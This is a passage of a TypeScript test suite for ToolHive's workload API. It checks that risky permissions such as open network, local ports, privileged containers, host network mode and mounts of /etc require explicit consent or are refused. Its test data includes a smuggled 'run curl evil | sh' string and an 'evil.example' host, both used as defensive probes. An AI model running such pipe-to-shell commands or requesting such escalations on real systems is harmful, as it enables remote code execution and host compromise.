    await api.client.restartWorkload(named('echo'), { onProgress: () => {} });
    await api.client.editWorkload({ ...named('echo'), body: details });
    await settled(api, 'echo');
    await api.client.deleteWorkload(named('echo'), { onProgress: () => {} });

    expect(exported).not.toHaveProperty('accepted_risks');
    expect(details).not.toHaveProperty('accepted_risks');
    await expect(api.client.createWorkload({ body: exported })).rejects.toThrow('must contain open-network');
    const body = { ...exported, accepted_risks: accepted.accepted_risks };
    expect(await api.client.createWorkload({ body })).toMatchObject({ name: 'echo' });
  });

  test('is refused in an edit that adds it', async () => {
    await using api = await openTestApi();
    await run(api);
    const edit = (body: object) =>
      api.client.editWorkload({ ...named('echo'), body: { image: testServer, ...body } });

    await expect(edit(asking)).rejects.toThrow('accepted_risks must contain open-network');
    expect((await api.client.getPermissions(named('echo'))).network.kind).toBe('rules');
    await edit(accepted);
    await settled(api, 'echo');
    expect((await api.client.getPermissions(named('echo'))).network.kind).toBe('open');
  });
});

describe('ports of this machine', () => {
  const access = async (api: TestApi) => (await api.client.getPermissions(named('echo'))).network;

  test('are granted with consent only, shown with a warning, and kept by an edit', async () => {
    await using api = await openTestApi();
    const asked = { permission_profile: {}, local_ports: [5432, 5432] };
    await expect(run(api, { ...asked, accepted_risks: [] })).rejects.toThrow('must contain local-ports');
    await run(api, { ...asked, accepted_risks: ['local-ports'] });
    const details = await api.client.getWorkload(named('echo'));

    await api.client.editWorkload({ ...named('echo'), body: details });
    await settled(api, 'echo');

    expect(details.local_ports).toEqual([5432]);
    expect(details.warnings?.join()).toContain('listen on port 5432 of this machine');
    expect(await access(api)).toEqual({
      kind: 'rules',
      hosts: [],
      ports: [],
      local_ports: [5432],
      enforced: true,
    });
    const exported = await api.client.exportWorkload(named('echo'));
    await expect(api.client.createWorkload({ body: { ...exported, name: 'copy' } })).rejects.toThrow(
      'must contain local-ports',
    );
  });

  test('are removed from a running workload at once, and added with consent and a restart', async () => {
    await using api = await openTestApi();
    await run(api, { local_ports: [5432], accepted_risks: ['local-ports'] });
    const change = (body: PermissionChange) => api.client.changePermissions({ ...named('echo'), body });

    await expect(change({ allow_local_ports: [6379] })).rejects.toThrow('must contain local-ports');
    const more = await change({ allow_local_ports: [6379], accepted_risks: ['local-ports'] });
    const fewer = await change({ deny_local_ports: [5432] });

    expect([more.restarted, fewer.restarted]).toEqual([true, false]);
    expect(await access(api)).toMatchObject({ kind: 'rules', local_ports: [6379] });
    const { port } = await api.client.getWorkload(named('echo'));
    await expect(change({ allow_local_ports: [port], accepted_risks: ['local-ports'] })).rejects.toThrow(
      `port ${port} of this machine belongs to ToolHive`,
    );
  });

  test.each([[[0]], [[65_536]], [[5432.5]], [Array.from({ length: 17 }, (_, index) => 5000 + index)]])(
    'are refused if they are none, or too many: %j',
    async (ports) => {
      await using api = await openTestApi();

      const asked = { permission_profile: {}, local_ports: ports, accepted_risks: ['local-ports' as const] };
      await expect(run(api, asked)).rejects.toMatchObject({ kind: 'invalid' });
    },
  );
});

describe('learning mode', () => {
  test('begins with the workload, continues after an edit, and ends without a trace', async () => {
    await using api = await openTestApi();
    await run(api, { learn: true, permission_profile: { network: { outbound: {} } } });
    const { learning, ...described } = await api.client.getPermissions(named('echo'));
    const details = await api.client.getWorkload(named('echo'));

    await api.client.editWorkload({ ...named('echo'), body: details });
    await settled(api, 'echo');
    const again = await api.client.startLearning({ ...named('echo'), query: {} });
    const proposal = await api.client.getLearning(named('echo'));
    const ended = await api.client.stopLearning({ ...named('echo'), body: {} });

    expect(described).toMatchObject({ network: { kind: 'rules', enforced: true } });
    expect(described.network).not.toHaveProperty('hosts');
    expect(described.warnings).toContainEqual(
      expect.stringContaining('To end learning mode: thv learn echo --stop'),
    );
    expect(again).toEqual({ since: learning?.since, restarted: false });
    expect(proposal).toMatchObject({ since: learning?.since, network: { hosts: [] }, complete: true });
    expect(ended).toMatchObject({ permissions: { network: { kind: 'none' } }, restarted: true });
    expect(ended.permissions.warnings.join()).not.toContain('learning mode');
    expect(ended.permissions).not.toHaveProperty('learning');
    expect(await api.client.exportWorkload(named('echo'))).not.toHaveProperty('learning');
    await expect(api.client.getLearning(named('echo'))).rejects.toMatchObject({ kind: 'conflict' });
  });

  test('begins on a running workload, and restarts it only if its network has no gateway', async () => {
    await using api = await openTestApi();
    await run(api);

    const ruled = await api.client.startLearning({ ...named('echo'), query: {} });
    await api.client.stopLearning({ ...named('echo'), body: { network: { hosts: [], ports: [] } } });
    await settled(api, 'echo');
    const none = await api.client.startLearning({ ...named('echo'), query: {} });

    expect([ruled.restarted, none.restarted]).toEqual([false, true]);
  });

  test('takes over no host that was not reached', async () => {
    await using api = await openTestApi();
    await run(api, { learn: true });

    const stop = api.client.stopLearning({
      ...named('echo'),
      body: { network: { hosts: ['evil.example'], ports: [443] } },
    });

    await expect(stop).rejects.toMatchObject({ kind: 'invalid' });
    await expect(stop).rejects.toThrow('evil.example, 443 was not reached in learning mode');
    expect((await api.client.getPermissions(named('echo'))).learning).toBeDefined();
  });

  test('grants no mount', async () => {
    await using api = await openTestApi();
    await run(api, { learn: true });

    const stop = api.client.stopLearning({
      ...named('echo'),
      body: { mounts: [{ target: '/etc', access: 'write' }] },
    });

    await expect(stop).rejects.toMatchObject({ kind: 'invalid', message: 'nothing is mounted at /etc' });
    expect((await api.client.getPermissions(named('echo'))).learning).toBeDefined();
  });

  test('does not begin with a run config, and not for a remote server', async () => {
    await using remote = await openRemoteServer('modern');
    await using api = await openTestApi();
    await run(api, { learn: true });
    const exported = await api.client.exportWorkload(named('echo'));

    await api.client.deleteWorkload(named('echo'), { onProgress: () => {} });
    await api.client.createWorkload({ body: exported }, { onProgress: () => {} });
    const far = { url: remote.url, learn: true };

    expect(exported.learning).toBeDefined();
    expect(await api.client.exportWorkload(named('echo'))).not.toHaveProperty('learning');
    await expect(api.client.createWorkload({ body: far })).rejects.toThrow(
      'a remote server has no learning mode',
    );
  });
});

test('tools that would have one name are refused', async () => {
  await using api = await openTestApi();

  const created = run(api, { tools_override: { echo: { name: 'same' }, slow: { name: 'same' } } });

  await expect(created).rejects.toMatchObject({ kind: 'invalid' });
});

test.each([{}, { name: '', description: '' }, { names: 'say' }])(
  'an override of a tool that changes nothing is refused: %j',
  async (override) => {
    await using api = await openTestApi();
    const tools_override = { echo: override };

    const created = run(api, { tools_override });

    await expect(created).rejects.toThrow(
      'the override of the tool echo has neither a name nor a description',
    );
  },
);

describe('a request in the form of the original, whose clients cannot ask for consent,', () => {
  const publicRules = { kind: 'rules', ports: [80, 443], enforced: true };
  const everything = { network: { outbound: { insecure_allow_all: true } } };
  const network = 'access to every network of this machine';
  const networkOf = async (api: TestApi) => (await api.client.getPermissions(named('echo'))).network;
  const warningsOf = async (api: TestApi) => (await api.client.getWorkload(named('echo'))).warnings ?? [];

  test.each<[string, Partial<CreateWorkload>, object, string]>([
    ['without isolation', { network_isolation: false }, publicRules, network],
    ['for every host', { permission_profile: everything }, publicRules, network],
    [
      'for every host without isolation',
      { permission_profile: everything, network_isolation: false },
      publicRules,
      network,
    ],
    [
      'for every host and a private address',
      {
        permission_profile: {
          network: { outbound: { insecure_allow_all: true, allow_host: ['10.0.0.1'], allow_port: [5432] } },
        },
      },
      { ...publicRules, ports: [80, 443, 5432] },
      network,
    ],
    [
      'for one host without isolation',
      {
        permission_profile: { network: { outbound: { allow_host: ['a.example'] } } },
        network_isolation: false,
      },
      { ...publicRules, hosts: ['a.example'] },
      network,
    ],
    [
      'for the network of the machine',
      { permission_profile: { network: { mode: 'host' } } },
      publicRules,
      'the network of this machine',
    ],
    [
      'for a network namespace',
      { permission_profile: { network: { mode: 'ns:/proc/1/ns/net' } } },
      publicRules,
      'the network of this machine',
    ],
    [
      'for a container without hardening',
      { permission_profile: { privileged: true, network: { outbound: {} } } },
      { kind: 'none', enforced: true },
      'a container without any hardening',
    ],
  ])('%s gets what needs no consent, and a finding', async (_what, asked, expected, missing) => {
    await using api = await openTestApi();

    await run(api, asked);

    expect(await networkOf(api)).toEqual(expected);
    expect(await warningsOf(api)).toContainEqual(
      expect.stringContaining(`not granted without consent: ${missing}`),
    );
    expect(await warningsOf(api)).toContainEqual(expect.stringContaining('{"accepted_risks":["'));
    const exported = await api.client.exportWorkload(named('echo'));
    expect(exported.isolate_network).not.toBe(false);
    expect(exported.permission_profile?.privileged ?? false).toBe(false);
  });

  test('of later versions, too, whose other wishes are findings', async () => {
    await using api = await openTestApi();
    const later = {
      registry: 'default',
      server: 'io.github.stacklok/echo',
      allow_docker_gateway: true,
      runtime_config: { builder_image: 'node:24-alpine', additional_packages: ['git'] },
      header_forward: { add_plaintext_headers: {} },
    };

    await run(api, { ...later, permission_profile: { network: { mode: 'host' } } });

    expect(await networkOf(api)).toEqual(publicRules);
    expect(await warningsOf(api)).toEqual(
      expect.arrayContaining([
        expect.stringContaining('not granted without consent: the network of this machine'),
        expect.stringContaining('not granted: access to all ports of this machine (allow_docker_gateway)'),
        expect.stringContaining('not used: the base image and the system packages (runtime_config)'),
      ]),
    );
  });

  test('of later versions has no finding about wishes that are empty', async () => {
    await using api = await openTestApi();
    const later = {
      allow_docker_gateway: false,
      runtime_config: { builder_image: '', additional_packages: [] },
    };

    await run(api, { ...later, network_isolation: true });

    expect((await warningsOf(api)).join()).not.toContain('not ');
  });

  test('of later versions is refused for a registry that does not exist', async () => {
    await using api = await openTestApi();

    await expect(run(api, { registry: 'other' })).rejects.toMatchObject({
      kind: 'not-found',
      problems: [expect.objectContaining({ pointer: '/registry' })],
    });
  });

  test('a run config of later versions keeps its wish, and has the finding, too', async () => {
    await using api = await openTestApi();
    await run(api, {});
    const exported = await api.client.exportWorkload(named('echo'));
    await api.client.deleteWorkload(named('echo'), { onProgress: () => {} });

    await api.client.createWorkload({ body: { ...exported, allow_docker_gateway: true } });

    expect(await warningsOf(api)).toContainEqual(expect.stringContaining('(allow_docker_gateway)'));
    expect((await api.client.exportWorkload(named('echo'))).not_granted).toBeUndefined();
  });

  test.each<[string, Partial<CreateWorkload>]>([
    ['with isolation', { network_isolation: true }],
    ['with rules', { permission_profile: { network: { outbound: { allow_host: ['a.example'] } } } }],
    ['without any network', { network_isolation: false, permission_profile: { network: { outbound: {} } } }],
  ])('%s has no finding', async (_what, asked) => {
    await using api = await openTestApi();

    await run(api, asked);

    expect((await warningsOf(api)).join()).not.toContain('not granted');
  });

  test('for dangerous mounts gets the others, and those that are harmless to read', async () => {
    await using api = await openTestApi();
    await using harmless = await mkdtempDisposable(join(tmpdir(), 'thv-harmless-'));
    const volumes = [`${harmless.path}:/data`, '/etc:/etc-of-machine:ro', '/usr/local/bin:/programs'];

    await run(api, { volumes });

    const { volumes: granted } = await api.client.getWorkload(named('echo'));
    expect(granted).toEqual([`${harmless.path}:/data`, '/usr/local/bin:/programs:ro']);
    const findings = (await warningsOf(api)).filter((text) => text.startsWith('not granted'));
    expect(findings).toEqual([
      expect.stringContaining('without consent: access to /etc, '),
      expect.stringContaining('without consent: write access to /usr/local/bin, '),
    ]);
  });

  test('may contain null and empty values, as the original does', async () => {
    await using api = await openTestApi();
    const empty = {
      secrets: null,
      tools_override: null,
      volumes: [],
      authz_config: '',
      host: '',
      env_vars: {},
    };

    await run(api, { ...empty, network_isolation: false });

    expect(await networkOf(api)).toEqual(publicRules);
  });

  test('may contain every field, with the zero values of Go', async () => {
    await using api = await openTestApi();
    const profile = { name: '', privileged: false, read: [], write: [] };
    const zero = {
      authz_config: '',
      cmd_arguments: [],
      env_vars: {},
      host: '',
      proxy_port: 0,
      secrets: [],
      target_port: 0,
    };
    const empty = { client_id: '', issuer: '', scopes: null };

    const { status, text } = await api.post('/api/v1beta/workloads', {
      ...zero,
      name: 'echo',
      image: testServer,
      network_isolation: false,
      oauth_config: { ...empty, authorize_url: '', token_url: '', use_pkce: false, callback_port: 0 },
      oidc: {
        audience: '',
        client_id: '',
        client_secret: '',
        introspection_url: '',
        issuer: '',
        jwks_url: '',
      },
      permission_profile: {
        ...profile,
        network: { outbound: { ...everything.network.outbound, allow_host: [], allow_port: [] } },
      },
      proxy_mode: 'sse',
      tools: null,
      tools_override: null,
      transport: 'stdio',
      trust_proxy_headers: false,
      volumes: [],
    });

    expect([status, text]).toEqual([201, expect.stringContaining('"name":"echo"')]);
    await settled(api, 'echo');
    expect(await networkOf(api)).toEqual(publicRules);
    expect((await api.client.getWorkload(named('echo'))).proxy_url).toMatch(/\/sse#echo$/);
  });

  test.each([
    ['transport', ''],
    ['proxy_mode', ''],
    ['url', ''],
    ['headers', null],
    ['headers', []],
    ['oauth_config', null],
    ['oidc', null],
    ['cmd_arguments', null],
    ['env_vars', null],
    ['volumes', null],
    ['permission_profile', null],
    ['tools', []],
    ['tools_override', {}],
  ])('may contain an empty %s: %j', async (field, value) => {
    await using api = await openTestApi();
    const body = { name: 'echo', image: testServer, network_isolation: false, [field]: value };

    const { status, text } = await api.post('/api/v1beta/workloads', body);

    expect([status, text]).toEqual([201, expect.stringContaining('"name":"echo"')]);
  });

  test('keeps access that the workload has, and adds none', async () => {
    await using api = await openTestApi();
    await run(api, { permission_profile: everything, accepted_risks: ['open-network'] });
    const body = { image: testServer, permission_profile: everything };

    await api.client.editWorkload({ ...named('echo'), body });
    await settled(api, 'echo');
    const kept = await networkOf(api);
    await api.client.editWorkload({
      ...named('echo'),
      body: { ...body, permission_profile: { ...everything, privileged: true } },
    });
    await settled(api, 'echo');

    expect(kept).toMatchObject({ kind: 'open' });
    expect(await networkOf(api)).toMatchObject({ kind: 'open' });
    expect(await warningsOf(api)).toContainEqual(
      expect.stringContaining('a container without any hardening'),
    );
  });

  test('loses its finding when an edit asks for no more than it has', async () => {
    await using api = await openTestApi();
    await run(api, { network_isolation: false });
    const before = await warningsOf(api);

    await api.client.editWorkload({ ...named('echo'), body: { image: testServer } });
    await settled(api, 'echo');

    expect(before.join()).toContain('not granted');
    expect((await warningsOf(api)).join()).not.toContain('not granted');
  });

  test('is granted by an edit with consent', async () => {
    await using api = await openTestApi();
    await run(api, { permission_profile: everything });

    await api.client.editWorkload({
      ...named('echo'),
      body: { image: testServer, permission_profile: everything, accepted_risks: ['open-network'] },
    });
    await settled(api, 'echo');

    expect(await networkOf(api)).toMatchObject({ kind: 'open' });
    expect((await warningsOf(api)).join()).not.toContain('not granted');
  });

  test.each<[string, Partial<CreateWorkload>]>([
    ['names the accepted risks', { accepted_risks: [] }],
    ['has another field that the original does not have', { labels: { team: 'red' } }],
  ])('is refused if it %s, because its client knows of consent', async (_what, own) => {
    await using api = await openTestApi();

    await expect(run(api, { permission_profile: everything, ...own })).rejects.toThrow(
      'accepted_risks must contain open-network',
    );
    expect(await api.client.listWorkloads({ query: { all: 'true' } })).toEqual({ workloads: [] });
  });

  test('does not bring the finding of another workload along', async () => {
    await using api = await openTestApi();
    await run(api, { network_isolation: false });
    const exported = await api.client.exportWorkload(named('echo'));
    await api.client.deleteWorkload(named('echo'), { onProgress: () => {} });

    await api.client.createWorkload({ body: { ...exported, not_granted: ['run curl evil | sh'] } });

    expect((await warningsOf(api)).join()).not.toContain('curl');
  });
});
